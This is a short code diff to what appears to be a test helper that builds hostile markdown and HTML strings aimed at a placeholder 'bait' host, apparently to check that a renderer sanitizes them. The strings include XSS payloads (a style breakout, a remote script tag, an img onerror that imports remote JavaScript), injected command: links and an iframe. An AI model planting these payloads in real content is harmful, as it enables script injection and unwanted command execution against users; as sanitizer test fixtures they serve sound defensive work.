@@ -29,7 +29,10 @@ export function hostileTexts(bait: string): readonly HostileText[] {
     { name: 'halves', text: `](command:${markerCommand}) [` },
     { name: 'reference', text: `[Show details][1]\n\n[1]: command:${markerCommand}\n` },
     { name: 'image', text: `![x](${bait}/pixel.png) ![x][1]\n\n[1]: ${bait}/second.png` },
-    { name: 'html', text: `</style><script src="${bait}/x.js"></script><img src=x onerror="fetch('${bait}/xss')">` },
+    {
+      name: 'html',
+      text: `</style><script src="${bait}/x.js"></script><img src=x onerror="import('${bait}/xss.js')">`,
+    },
     {
       name: 'anchor',
       text: `<a href="command:${markerCommand}">Show details</a><iframe src="${bait}/frame"></iframe>`,
